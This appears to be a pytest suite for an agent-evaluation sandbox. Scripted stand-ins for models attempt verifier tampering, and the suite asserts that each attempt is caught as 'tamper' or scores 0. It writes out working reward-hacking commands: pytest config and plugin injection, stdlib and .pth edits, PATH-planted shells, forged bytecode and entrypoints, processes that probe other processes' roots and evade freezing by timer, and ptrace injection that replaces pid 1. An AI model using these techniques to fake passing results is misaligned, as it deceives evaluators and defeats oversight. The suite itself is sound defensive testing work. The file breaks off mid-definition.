"""The verdict comes from a world the agent did not shape (docs/security.md), on Docker.

Each agent here is scripted (a named test double for a model): it types shell commands as a
policy would through the terminal tool. Every class of attack stands beside an honest
failure (0) and an honest solution (1) of the same task:

- services the agent leaves running serve the tests (a twin container shares only their
  network), and a live process of the agent can reach nothing of the tests' world;
- the runner is the image's: pytest's configuration above /tests, pytest plugins, the
  standard library and start-up hooks changed by the agent are `tamper`, while a package
  the agent installed (its `.pth` included) is judged, not tampering;
- the tests run in the workdir (Harbor's), where a module named like the runner is tamper.
"""

from __future__ import annotations

import base64
import hashlib
import io
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from tests.docker_probe import requires_docker

from clotho.agent.base import AgentContext
from clotho.agent.result import AgentResult
from clotho.rollout import RolloutOutcome
from clotho.sandbox import DockerSandboxConfig
from clotho.sandbox.docker import freeze
from clotho.sandbox.pool import SlotPool
from clotho.tasks.harbor import load_task
from clotho.tasks.trial import HarborTrial, run_trial

pytestmark = requires_docker

SITE = "/usr/local/lib/python3.11/dist-packages"
# The image's runner: pytest and what it imports, copied from the harness's own virtualenv
# (the same Python 3.11 as the image's, pure Python).
RUNNER_PACKAGES = ("pytest", "_pytest", "pluggy", "iniconfig", "packaging", "pygments", "py.py")
DOCKERFILE = f"FROM clotho/base:bookworm\nCOPY site/ {SITE}/\nRUN mkdir -p /srv\n"


class Scripted:
    """A scripted agent (a named test double for a model): runs its commands in order."""

    name = "scripted"

    def __init__(self, *commands: str) -> None:
        self.commands = commands
        self.exits: list[int] = []

    async def run(self, ctx: AgentContext) -> AgentResult:
        for command in self.commands:
            self.exits.append((await ctx.sandbox.exec(command, timeout=60)).exit_code)
        return AgentResult(messages=[{"role": "user", "content": ctx.instruction}])


def _patient(task: Path) -> Path:
    """Verifier and agent limits far beyond need: a loaded 2-core machine is no failure."""
    toml = task / "task.toml"
    toml.write_text(toml.read_text().replace("timeout_sec = 30.0", "timeout_sec = 600.0"))
    return task


def _task(make_task, name: str, test_sh: str, tests: dict[str, str] | None = None) -> Path:
    task = _patient(make_task(name, test_sh=test_sh, env_files={"Dockerfile": DOCKERFILE}))
    site = task / "environment" / "site"
    site.mkdir()
    host_site = Path(pytest.__file__).parent.parent
    for package in RUNNER_PACKAGES:
        source = host_site / package
        if source.is_dir():
            shutil.copytree(source, site / package, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy(source, site / package)
    for relative, text in (tests or {}).items():
        (task / "tests" / relative).write_text(text)
    return task


async def _trial(task_dir: Path, agent: Scripted) -> RolloutOutcome:
    async with SlotPool() as pool:
        outcome = await run_trial(
            HarborTrial(load_task(task_dir)), agent, DockerSandboxConfig(), pool, timeout_s=1800
        )
        assert pool.stats()["in_use"] == 0
    assert all(code == 0 for code in agent.exits), agent.exits
    return outcome


def _leftovers(task_name: str) -> list[str]:
    """Containers and snapshot images of that task still on the daemon."""
    found = []
    for kind in ("ps -a", "images"):
        out = subprocess.run(
            ["docker", *kind.split(), "-q", "--filter", f"label=clotho.task={task_name}"],
            capture_output=True, text=True, check=True,
        ).stdout  # fmt: skip
        found += out.split()
    return found


# --- services --------------------------------------------------------------------------

SERVE = (
    "cd /srv && setsid python3 -m http.server 8080 --bind 127.0.0.1 "
    ">/dev/null 2>&1 </dev/null & "
    'for i in $(seq 300); do python3 -c "import urllib.request as u; '
    "u.urlopen('http://127.0.0.1:8080/')\" 2>/dev/null && break; sleep 0.1; done"
)
# The tests ask the agent's server for /answer.txt.
SERVICE_TEST_SH = """\
mkdir -p /logs/verifier
got=$(python3 -c "import urllib.request as u; print(u.urlopen('http://127.0.0.1:8080/answer.txt', timeout=10).read().decode().strip())" 2>&1)
echo "got $got"
if [ "$got" = 42 ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""


@pytest.mark.parametrize(("answer", "reward"), [("42", 1.0), ("41", 0.0)])
async def test_a_service_the_agent_left_running_serves_the_tests(
    make_task, answer: str, reward: float
) -> None:
    """Terminal-Bench semantics: a server the task asked for is alive for its tests, which
    judge what it serves; the twin and its snapshot are gone afterwards."""
    task = _task(make_task, f"serve-{answer}", SERVICE_TEST_SH)
    outcome = await _trial(task, Scripted(f"echo {answer} > /srv/answer.txt", SERVE))
    assert outcome.error is None, outcome.error
    assert outcome.reward == reward
    assert outcome.verifier is not None and f"got {answer}" in outcome.verifier.output
    assert _leftovers(f"serve-{answer}") == []


async def test_without_the_service_the_tests_fail(make_task) -> None:
    task = _task(make_task, "no-serve", SERVICE_TEST_SH)
    outcome = await _trial(task, Scripted("echo 42 > /srv/answer.txt"))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 0.0
    assert outcome.verifier is not None and "refused" in outcome.verifier.output


# A live process of the agent, continued while the tests run, that tries every way into
# their world: other processes' roots (/proc/PID/root), the tests and reward folders, the
# runner's programs. It beats a counter the tests read through the server, so the run shows
# it was alive while they ran.
REACHER = r"""cat > /tmp/reach.sh <<'EOF'
n=0
while :; do
  n=$((n + 1)); echo $n > /srv/beat
  for r in /proc/[0-9]*/root; do
    [ -f "$r/tests/expected.txt" ] && cp "$r/tests/expected.txt" /srv/answer.txt
    mkdir -p "$r/logs/verifier" 2>/dev/null && echo 1 > "$r/logs/verifier/reward.txt"
  done
  [ -f /tests/expected.txt ] && cp /tests/expected.txt /srv/answer.txt
  mkdir -p /logs/verifier && echo 1 > /logs/verifier/reward.txt
  sleep 0.02
done
EOF
setsid bash /tmp/reach.sh >/dev/null 2>&1 </dev/null &"""
REACHED_TEST_SH = """\
mkdir -p /logs/verifier
beat() { python3 -c "import urllib.request as u; print(u.urlopen('http://127.0.0.1:8080/beat', timeout=10).read().decode().strip())"; }
first=$(beat); i=0
while [ "$(beat)" = "$first" ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i + 1)); done
[ "$(beat)" != "$first" ] && echo "the agent's process is alive"
got=$(python3 -c "import urllib.request as u; print(u.urlopen('http://127.0.0.1:8080/answer.txt', timeout=10).read().decode().strip())")
if [ "$got" = "$(cat /tests/expected.txt)" ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""


async def test_a_live_process_of_the_agent_reaches_nothing_of_the_tests(make_task) -> None:
    task = _task(make_task, "reach", REACHED_TEST_SH, {"expected.txt": "42\n"})
    agent = Scripted("echo 41 > /srv/answer.txt", SERVE, REACHER)
    outcome = await _trial(task, agent)
    assert outcome.error is None, outcome.error
    assert outcome.verifier is not None
    assert "the agent's process is alive" in outcome.verifier.output
    assert outcome.reward == 0.0


# --- the runner ------------------------------------------------------------------------

PYTEST_TEST_SH = """\
mkdir -p /logs/verifier
python3 -m pytest -q -p no:cacheprovider /tests/test_answer.py
if [ $? -eq 0 ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""
TEST_ANSWER = (
    "from pathlib import Path\n\n\n"
    "def test_answer():\n"
    "    assert Path('/app/answer.txt').read_text().strip() == '42'\n"
)


def _pytest_task(make_task, name: str) -> Path:
    return _task(make_task, name, PYTEST_TEST_SH, {"test_answer.py": TEST_ANSWER})


def _wheel(name: str, files: dict[str, str], entry_points: str = "") -> bytes:
    """A wheel as an installer leaves it: its files, and a RECORD with their sha256."""
    dist = f"{name}-1.0.dist-info"
    files = {
        **files,
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    if entry_points:
        files[f"{dist}/entry_points.txt"] = entry_points
    lines = []
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        lines.append(f"{path},sha256={digest.decode()},{len(text.encode())}")
    files[f"{dist}/RECORD"] = "\n".join([*lines, f"{dist}/RECORD,,"]) + "\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return buffer.getvalue()


def _install(wheel: bytes) -> str:
    """A shell command that unpacks the wheel into the system site folder, as pip does."""
    data = base64.b64encode(wheel).decode()
    return (
        f'echo {data} | base64 -d > /tmp/w.whl && python3 -c "import zipfile; '
        f"zipfile.ZipFile('/tmp/w.whl').extractall('{SITE}')\""
    )


HOOK_PTH = "import os; os.environ.setdefault('HOOKPKG', 'installed')\n"
INSTALLED = _wheel("hookpkg", {"hookpkg.pth": HOOK_PTH, "hookpkg/__init__.py": "VALUE = 42\n"})
PLUGIN = _wheel(
    "passall",
    {"passall.py": "def pytest_runtest_call(item):\n    pass\n"},
    entry_points="[pytest11]\npassall = passall\n",
)
# Each attack, and the path the tamper message must name.
ATTACKS = {
    "pytest.ini at /": "printf '[pytest]\\naddopts = --collect-only\\n' > /pytest.ini",
    "conftest.py at /": "printf 'import os\\n"
    "def pytest_sessionfinish(session, exitstatus):\\n    os._exit(0)\\n' > /conftest.py",
    "stdlib edited": "echo 'import os; os._exit(0)' >> /usr/lib/python3.11/pathlib.py",
    "stdlib shadow": f"cp -r {SITE}/_pytest/config /usr/lib/python3.11/_pytest_x && "
    "printf 'import os\\nos._exit(0)\\n' > /usr/lib/python3.11/pytest.py",
    "sitecustomize": f"printf 'import os\\nos._exit(0)\\n' > {SITE}/sitecustomize.py",
    "hand-made .pth": f"echo 'import os; os._exit(0)' > {SITE}/zz.pth",
    "pytest plugin": f"mkdir -p {SITE}/passall-1.0.dist-info && "
    f"printf 'def pytest_sessionfinish(session):\\n    session.exitstatus = 0\\n' > {SITE}/passall.py && "
    f"printf '[pytest11]\\npassall = passall\\n' > {SITE}/passall-1.0.dist-info/entry_points.txt",
    "pip configuration": "printf '[global]\\nfind-links = /tmp/evil\\n' > /etc/pip.conf",
    # pip also reads the configuration of its interpreter's prefix, after /etc's.
    "pip prefix configuration": "printf '[global]\\nfind-links = /tmp/evil\\n' > /usr/pip.conf",
    "loader preload": "echo /tmp/x.so > /etc/ld.so.preload",
    "runner edited": f"echo 'import os; os._exit(0)' >> {SITE}/_pytest/main.py",
    # The runner's site folder swapped for a link to an edited copy: nothing in it is listed
    # as changed, only the folder.
    "site folder linked": f"cp -a {SITE} /opt/s && "
    "echo 'import os; os._exit(0)' >> /opt/s/_pytest/main.py && "
    f"rm -rf {SITE} && ln -s /opt/s {SITE}",
}


NAMED = {
    "pytest.ini at /": "/pytest.ini",
    "conftest.py at /": "/conftest.py",
    "stdlib edited": "python3.11/pathlib.py",
    "stdlib shadow": "python3.11/pytest.py",
    "sitecustomize": "sitecustomize.py",
    "hand-made .pth": "zz.pth",
    "pytest plugin": "passall-1.0.dist-info/entry_points.txt",
    "loader preload": "/etc/ld.so.preload",
    "runner edited": "_pytest/main.py",
    "pip configuration": "/etc/pip.conf",
    "pip prefix configuration": "/usr/pip.conf",
    "site folder linked": f"{SITE} (a folder",
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_a_changed_runner_is_tamper(make_task, attack: str) -> None:
    task = _pytest_task(make_task, "runner")
    outcome = await _trial(task, Scripted("echo 41 > /app/answer.txt", ATTACKS[attack]))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome.error
    assert NAMED[attack] in outcome.error.message, outcome.error.message
    assert outcome.reward is None and not outcome.passed


@pytest.mark.parametrize(("answer", "reward"), [("42", 1.0), ("41", 0.0)])
async def test_the_runner_judges_honest_work(make_task, answer: str, reward: float) -> None:
    task = _pytest_task(make_task, f"honest-{answer}")
    outcome = await _trial(task, Scripted(f"echo {answer} > /app/answer.txt"))
    assert outcome.error is None, outcome.error
    assert outcome.verifier is not None
    assert outcome.reward == reward, outcome.verifier.output


async def test_a_module_named_like_the_runner_in_the_workspace_is_tamper(make_task) -> None:
    """The tests run in the workdir, as Harbor's do, and `python3 -m pytest` puts it first on
    `sys.path`: the agent's /app/pytest.py would be the runner, so it is tamper."""
    task = _pytest_task(make_task, "shadow-cwd")
    forge = "printf 'import os\\nos._exit(0)\\n' > /app/pytest.py"
    outcome = await _trial(task, Scripted("echo 41 > /app/answer.txt", forge))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome.error
    assert "/app/pytest.py" in outcome.error.message


INSTALLED_TEST_SH = """\
mkdir -p /logs/verifier
python3 -c "import os, hookpkg; assert hookpkg.VALUE == 42 and os.environ['HOOKPKG'] == 'installed'"
if [ $? -eq 0 ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""


async def test_an_installed_package_with_a_start_up_hook_is_judged_not_tamper(
    make_task,
) -> None:
    """A package installed with its `.pth` (as setuptools or eigenpy install theirs) is the
    task's software: its hook runs in the tests' interpreter and the tests pass."""
    task = _task(make_task, "installed", INSTALLED_TEST_SH)
    outcome = await _trial(task, Scripted(_install(INSTALLED)))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 1.0
    nothing = await _trial(task, Scripted("true"))
    assert nothing.error is None and nothing.reward == 0.0, nothing.error


async def test_a_hook_edited_after_its_install_is_tamper(make_task) -> None:
    """The same package, its `.pth` rewritten after the install: no longer the installer's."""
    task = _task(make_task, "installed-edited", INSTALLED_TEST_SH)
    edit = f"echo 'import os; os._exit(0)' >> {SITE}/hookpkg.pth"
    outcome = await _trial(task, Scripted(_install(INSTALLED), edit))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome.error
    assert "hookpkg.pth" in outcome.error.message


async def test_the_runner_reinstalled_by_an_installer_is_not_tamper(make_task) -> None:
    """A runner package the agent (re)installed with an installer's RECORD, as `pip install`
    leaves it, is not tampering: the tests run on it and judge the work."""
    py = (Path(pytest.__file__).parent.parent / "py.py").read_text()
    reinstall = _install(_wheel("py", {"py.py": py}))
    task = _pytest_task(make_task, "reinstalled")
    outcome = await _trial(task, Scripted("echo 42 > /app/answer.txt", reinstall))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 1.0


@pytest.mark.parametrize(("answer", "reward"), [("42", 1.0), ("41", 0.0)])
async def test_an_installed_pytest_plugin_is_judged_not_tamper(
    make_task, answer: str, reward: float
) -> None:
    """A plugin installed as pip leaves it (its entry points in a RECORD) is the agent's
    software, as pytest-json-ctrf is: the tests run with it and still judge the work."""
    task = _pytest_task(make_task, f"plugin-{answer}")
    outcome = await _trial(task, Scripted(f"echo {answer} > /app/answer.txt", _install(PLUGIN)))
    assert outcome.error is None, outcome.error
    assert outcome.reward == reward


SOURCING_DOCKERFILE = DOCKERFILE + (
    "RUN mkdir -p /root/.local/bin && "
    "printf 'export PATH=/root/.local/bin:$PATH\\n' > /root/.local/bin/env\n"
)
SOURCING_TEST_SH = """\
mkdir -p /logs/verifier
source $HOME/.local/bin/env
if [ "$(cat /app/answer.txt)" = 42 ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""


@pytest.mark.parametrize(
    ("commands", "expected"),
    [
        (("echo 42 > /app/answer.txt",), 1.0),
        (("echo 41 > /app/answer.txt",), 0.0),
        (
            (
                "echo 41 > /app/answer.txt",
                "printf 'echo 1 > /logs/verifier/reward.txt; exit 0\\n' >> /root/.local/bin/env",
            ),
            "tamper",
        ),
    ],
    ids=["honest", "wrong", "forged"],
)
async def test_a_file_the_tests_source_is_the_runners(make_task, commands, expected) -> None:
    """`source $HOME/.local/bin/env` (Terminal-Bench's uv set-up) runs that file in the
    tests' shell: the agent's edit of it is tamper, and its folder's programs are checked."""
    name = f"sourcing-{expected}"
    task = _patient(
        make_task(name, test_sh=SOURCING_TEST_SH, env_files={"Dockerfile": SOURCING_DOCKERFILE})
    )
    (task / "environment" / "site").mkdir()
    outcome = await _trial(task, Scripted(*commands))
    if expected == "tamper":
        assert outcome.error is not None and outcome.error.kind == "tamper", outcome.error
        assert "/root/.local/bin/env" in outcome.error.message
    else:
        assert outcome.error is None, outcome.error
        assert outcome.reward == expected


# Terminal-Bench's uv set-up: the installer writes the `env` file only where there is none
# (and here, without a network, installs nothing else), then the tests' shell sources it.
INSTALLING_TEST_SH = """\
mkdir -p /logs/verifier $HOME/.local/bin
[ -f $HOME/.local/bin/env ] || printf 'export PATH=$HOME/.local/bin:$PATH\\n' > $HOME/.local/bin/env
source $HOME/.local/bin/env
if uvx sh -c '[ "$(cat /app/answer.txt)" = 42 ]' 2>/dev/null || [ "$(cat /app/answer.txt)" = 42 ]
then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""
FORGED_ENV = "printf 'echo 1 > /logs/verifier/reward.txt; exit 0\\n' > /root/.local/bin/env"
# The agent installed uv for its own work, as the tests' installer would have.
HONEST_UV = (
    "printf 'export PATH=$HOME/.local/bin:$PATH\\n' > /root/.local/bin/env && "
    "printf '#!/bin/sh\\nexec \"$@\"\\n' > /root/.local/bin/uvx && chmod +x /root/.local/bin/uvx"
)
LINKED_ENV = (  # the same file, reached through a folder linked elsewhere
    FORGED_ENV.replace("/root/.local", "/tmp/elsewhere")
    + " && rm -r /root/.local && ln -s /tmp/elsewhere /root/.local"
)
FORGED_UVX = (
    "printf '#!/bin/sh\\nexit 0\\n' > /root/.local/bin/uvx && chmod +x /root/.local/bin/uvx"
)


@pytest.mark.parametrize(
    ("plant", "answer", "expected"),
    [
        ("true", 42, 1.0),
        ("true", 41, 0.0),
        (HONEST_UV, 42, 1.0),
        (FORGED_ENV, 41, 0.0),
        (FORGED_UVX, 41, 0.0),
        (LINKED_ENV, 41, "tamper"),
    ],
    ids=["honest", "wrong", "own-uv", "forged-env", "forged-uvx", "linked"],
)
async def test_what_the_tests_set_up_for_themselves_is_never_the_agents(
    make_task, plant, answer, expected
) -> None:
    """A file the tests source and the runner programs beside it, absent before the agent,
    are removed before the tests: their installer makes its own, so an `env` that writes the
    reward, or a `uvx` that passes anything, is never what runs; one behind a link the agent
    put on the way (which removing would not reach) is tamper."""
    task = _task(make_task, f"setup-{answer}-{len(plant)}", INSTALLING_TEST_SH)
    plant = f"mkdir -p /root/.local/bin /tmp/elsewhere/bin && {plant}"
    outcome = await _trial(task, Scripted(f"echo {answer} > /app/answer.txt", plant))
    if expected == "tamper":
        assert outcome.error is not None and outcome.error.kind == "tamper", outcome
        assert "/root/.local/bin/env" in outcome.error.message, outcome.error.message
    else:
        assert outcome.error is None, outcome.error
        assert outcome.reward == expected, outcome


LOGGING_SERVE = (
    "mkdir -p /var/log/svc && cd /srv && setsid python3 -u -m http.server 8080 "
    "--bind 127.0.0.1 >/var/log/svc/access.log 2>&1 </dev/null & "
    'for i in $(seq 300); do python3 -c "import urllib.request as u; '
    "u.urlopen('http://127.0.0.1:8080/')\" 2>/dev/null && break; sleep 0.1; done"
)
# The request the tests make must show in the service's log (nginx-request-logging's check).
LOGGED_TEST_SH = """\
mkdir -p /logs/verifier
python3 -c "import urllib.request as u; u.urlopen('http://127.0.0.1:8080/answer.txt', timeout=10)"
i=0
until grep -q 'GET /answer.txt' /var/log/svc/access.log 2>/dev/null || [ $i -ge 600 ]; do
  sleep 0.05; i=$((i + 1))
done
if grep -q 'GET /answer.txt' /var/log/svc/access.log; then echo 1; else echo 0; fi \\
  > /logs/verifier/reward.txt
"""


async def test_what_a_service_writes_to_its_log_during_the_tests_is_seen(make_task) -> None:
    """The twin sees the agent's /var/log live: a request the tests make shows in the log
    the service keeps (as nginx's access log in Terminal-Bench's nginx-request-logging)."""
    task = _task(make_task, "logged", LOGGED_TEST_SH)
    outcome = await _trial(task, Scripted("echo 42 > /srv/answer.txt", LOGGING_SERVE))
    assert outcome.error is None, outcome.error
    assert outcome.reward == 1.0


# A compiled colorsys whose header matches the untouched source: Python would run it instead.
FORGE_PYC = r"""python3 - <<'EOF'
import colorsys, importlib.util, marshal, os, struct
source = colorsys.__file__
info = os.stat(source)
code = compile("import os\nos._exit(0)\n", source, "exec")
header = struct.pack("<III", 0, int(info.st_mtime) & 0xFFFFFFFF, info.st_size & 0xFFFFFFFF)
with open(importlib.util.cache_from_source(source), "wb") as f:
    f.write(importlib.util.MAGIC_NUMBER + header + marshal.dumps(code))
EOF"""
# The forgery works in the agent's own shell: importing colorsys exits before printing.
FORGERY_WORKS = "! python3 -c 'import colorsys; print(\"real\")' | grep -q real"
COLORSYS_TEST_SH = """\
mkdir -p /logs/verifier
python3 -c "import colorsys, sys; sys.exit(open('/app/answer.txt').read().strip() != '42')"
if [ $? -eq 0 ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""


async def test_bytecode_the_agent_left_is_compiled_again(make_task) -> None:
    """Bytecode is derived: a forged `.pyc` for an untouched standard-library module is
    removed before the tests, so the module's source runs and the wrong answer scores 0."""
    task = _task(make_task, "pyc", COLORSYS_TEST_SH)
    agent = Scripted("echo 41 > /app/answer.txt", FORGE_PYC, FORGERY_WORKS)
    outcome = await _trial(task, agent)
    assert outcome.error is None, outcome.error
    assert outcome.reward == 0.0
    honest = await _trial(task, Scripted("echo 42 > /app/answer.txt"))
    assert honest.error is None and honest.reward == 1.0, honest.error


# --- nothing of the agent's runs for the harness ----------------------------------------

ANSWER_TEST_SH = """\
mkdir -p /logs/verifier
got=$(cat /app/answer.txt)
echo "got $got"
if [ "$got" = 42 ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""
# A `bash` (and `sh`) first on PATH that, run by the harness, turns the wrong answer into the
# right one, removes itself and hands over to the real program: run before the check, the
# check would find nothing changed but the answer.
PLANTED_SHELLS = (
    "printf '#!/bin/sh\\necho 42 > /app/answer.txt\\n"
    'rm -f /usr/local/sbin/bash /usr/local/sbin/sh\\nexec /bin/$(basename "$0") "$@"\\n\' '
    "> /usr/local/sbin/bash && chmod +x /usr/local/sbin/bash && "
    "cp /usr/local/sbin/bash /usr/local/sbin/sh"
)


@pytest.mark.parametrize("service", [False, True], ids=["stopped", "held"])
async def test_a_shell_planted_first_on_path_never_runs_for_the_harness(
    make_task, service: bool
) -> None:
    """The agent's processes are stopped (or held) from the host, so the planted `bash` is
    still there when the programs are checked: tamper, never a forged 1."""
    task = _task(make_task, f"planted-{'held' if service else 'stopped'}", ANSWER_TEST_SH)
    commands = ["echo 41 > /app/answer.txt", *([SERVE] if service else []), PLANTED_SHELLS]
    outcome = await _trial(task, Scripted(*commands))
    assert outcome.error is not None and outcome.error.kind == "tamper", outcome
    assert "/usr/local/sbin/bash" in outcome.error.message, outcome.error.message
    assert outcome.reward is None and not outcome.passed


# A process that a timer keeps continuing (SIGCONT every 20 ms, a POSIX timer of its own).
# Once it sees its child stopped by someone else (a hold by SIGSTOP), each time it is
# continued it writes the right answer, then stops itself again so as to look held.
ACCOMPLICE = """\
import ctypes, os, signal, time
child = os.fork()
if child == 0:
    while True:
        time.sleep(1)
libc = ctypes.CDLL("libc.so.6", use_errno=True)
class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int),
                ("pad", ctypes.c_int * 12)]
class Spec(ctypes.Structure):
    _fields_ = [(n, ctypes.c_long) for n in ("i_s", "i_ns", "v_s", "v_ns")]
held = []
def woken(*_):
    try:
        pid, status = os.waitpid(child, os.WUNTRACED | os.WNOHANG)
    except ChildProcessError:
        return
    if pid and os.WIFSTOPPED(status):
        held.append(1)
    if held:
        with open("/app/answer.txt", "w") as f:
            f.write("42\\n")
        os.kill(os.getpid(), signal.SIGSTOP)
signal.signal(signal.SIGCONT, woken)
timer = ctypes.c_void_p()
assert libc.timer_create(1, ctypes.byref(Event(None, signal.SIGCONT, 0)), ctypes.byref(timer)) == 0
assert libc.timer_settime(timer, 0, ctypes.byref(Spec(0, 20_000_000, 0, 20_000_000)), None) == 0
open("/tmp/armed", "w").close()
while True:
    time.sleep(1)
"""
START_ACCOMPLICE = (
    f"cat > /tmp/accomplice.py <<'EOF'\n{ACCOMPLICE}EOF\n"
    "setsid python3 /tmp/accomplice.py >/dev/null 2>&1 </dev/null & "
    "for i in $(seq 600); do [ -e /tmp/armed ] && break; sleep 0.05; done; [ -e /tmp/armed ]"
)


@pytest.fixture(params=["local", "remote"])
def daemon(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """`remote`: a stand-in (a test double) for a daemon on another host, whose processes
    are not this host's to read or signal (`freeze.local_pid` answers None)."""
    if request.param == "remote":

        async def not_local(container: object) -> None:
            return None

        monkeypatch.setattr(freeze, "local_pid", not_local)
    return str(request.param)


async def test_a_held_process_that_a_timer_continues_changes_nothing_the_tests_see(
    make_task, daemon: str
) -> None:
    """Held, the agent's container is frozen by the daemon (a timer's SIGCONT does nothing
    to a frozen process) until the twin, from its snapshot, runs the tests: the answer the
    tests read is the one the agent left."""
    task = _task(make_task, f"timer-{daemon}", ANSWER_TEST_SH)
    outcome = await _trial(task, Scripted("echo 41 > /app/answer.txt", START_ACCOMPLICE))
    assert outcome.error is None, outcome.error
    assert outcome.verifier is not None
    assert "got 41" in outcome.verifier.output, outcome.verifier.output
    assert outcome.reward == 0.0


ENTRYPOINT_DOCKERFILE = (
    DOCKERFILE + 'COPY entry.sh /entry.sh\nRUN chmod +x /entry.sh\nENTRYPOINT ["/entry.sh"]\n'
)
# The image's entrypoint, rewritten by the agent to write the right answer and stay running.
FORGED_ENTRYPOINT = (
    "printf '#!/bin/sh\\nwhile true; do echo 42 > /app/answer.txt; sleep 0.05; done\\n' > /entry.sh"
)


async def test_the_twin_runs_none_of_the_snapshots_entrypoint(make_task) -> None:
    """The verification twin's first process is the harness's checked shell, not the
    entrypoint of the snapshot (a file the agent could edit): the forged one never runs."""
    task = _task(make_task, "entry", ANSWER_TEST_SH)
    environment = task / "environment"
    (environment / "Dockerfile").write_text(ENTRYPOINT_DOCKERFILE)
    (environment / "entry.sh").write_text('#!/bin/sh\nexec "$@"\n')
    agent = Scripted("echo 41 > /app/answer.txt", SERVE, FORGED_ENTRYPOINT)
    outcome = await _trial(task, agent)
    assert outcome.error is None, outcome.error
    assert outcome.verifier is not None
    assert "got 41" in outcome.verifier.output, outcome.verifier.output
    assert outcome.reward == 0.0


# A program of the agent's as the container's pid 1: docker-init, which no stop may end (the
# container would), made by ptrace (same uid: no capability needed) to exec the impostor. A
# timer continues it whenever it is stopped, and it turns a reward of 0 into 1 as soon as
# one is written.
IMPOSTOR = """\
import ctypes, signal, time
libc = ctypes.CDLL("libc.so.6", use_errno=True)
class Event(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int),
                ("pad", ctypes.c_int * 12)]
class Spec(ctypes.Structure):
    _fields_ = [(n, ctypes.c_long) for n in ("i_s", "i_ns", "v_s", "v_ns")]
signal.signal(signal.SIGCONT, lambda *_: None)
libc.prctl(15, b"docker-init", 0, 0, 0)  # PR_SET_NAME: named as the pid 1 it replaced
timer = ctypes.c_void_p()
assert libc.timer_create(1, ctypes.byref(Event(None, signal.SIGCONT, 0)), ctypes.byref(timer)) == 0
assert libc.timer_settime(timer, 0, ctypes.byref(Spec(0, 20_000_000, 0, 20_000_000)), None) == 0
open("/tmp/impostor-runs", "w").close()
while True:
    try:
        with open("/logs/verifier/reward.txt") as f:
            if f.read().strip() == "0":
                with open("/logs/verifier/reward.txt", "w") as g:
                    g.write("1\\n")
    except OSError:
        pass
    time.sleep(0.005)
"""
# Attach to pid 1, write execve's arguments below its stack, make its next instruction a
# syscall (execve), detach (x86-64).
INJECT = """\
import ctypes, os, struct
libc = ctypes.CDLL("libc.so.6", use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags "
         "rsp ss fs_base gs_base ds es fs gs").split()
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]
assert libc.ptrace(16, 1, None, None) == 0, ctypes.get_errno()  # PTRACE_ATTACH
os.waitpid(1, 0)
regs = Regs()
assert libc.ptrace(12, 1, None, ctypes.byref(regs)) == 0  # GETREGS
base = (regs.rsp - 8192) & ~0xF
path, arg = b"/usr/bin/python3\\0", b"/tmp/impostor.py\\0"
data = (path + arg).ljust(256, b"\\0") + struct.pack("<QQQ", base, base + len(path), 0)
for off in range(0, len(data), 8):
    word = int.from_bytes(data[off : off + 8], "little")
    libc.ptrace(4, 1, ctypes.c_void_p(base + off), ctypes.c_void_p(word))  # POKEDATA
code = libc.ptrace(1, 1, ctypes.c_void_p(regs.rip), None) & 0xFFFFFFFFFFFFFFFF  # PEEKTEXT
libc.ptrace(4, 1, ctypes.c_void_p(regs.rip), ctypes.c_void_p((code & ~0xFFFF) | 0x050F))
regs.rax, regs.rdi, regs.rsi, regs.rdx = 59, base, base + 256, 0
regs.orig_rax = 2**64 - 1  # no restart of the call it was in
assert libc.ptrace(13, 1, None, ctypes.byref(regs)) == 0  # SETREGS
assert libc.ptrace(17, 1, None, None) == 0  # DETACH
"""
BECOME_PID_1 = (
    f"cat > /tmp/impostor.py <<'EOF'\n{IMPOSTOR}EOF\n"
    f"cat > /tmp/inject.py <<'EOF'\n{INJECT}EOF\n"
    "python3 /tmp/inject.py && "
    "for i in $(seq 600); do [ -e /tmp/impostor-runs ] && break; sleep 0.05; done; "
    "[ -e /tmp/impostor-runs ]"
)


async def test_an_impostor_as_pid_1_is_nowhere_near_the_tests(make_task) -> None:
    """Pid 1 (and the container's main process) outlive any stop, and a stopped process can
    be continued by its own timer: the tests run in the twin, whose pid 1 is its own."""
    task = _task(make_task, "impostor", ANSWER_TEST_SH)
    outcome = await _trial(task, Scripted("echo 41 > /app/answer.txt", BECOME_PID_1))
    assert outcome.error is None, outcome.error
    assert outcome.verifier is not None
    assert "got 41" in outcome.verifier.output, outcome.verifier.output
    assert outcome.reward == 0.0


async def test_a_shell_planted_on_the_harnesss_path_is_tamper_when_the_tests_path_is_narrower(
    make_task,
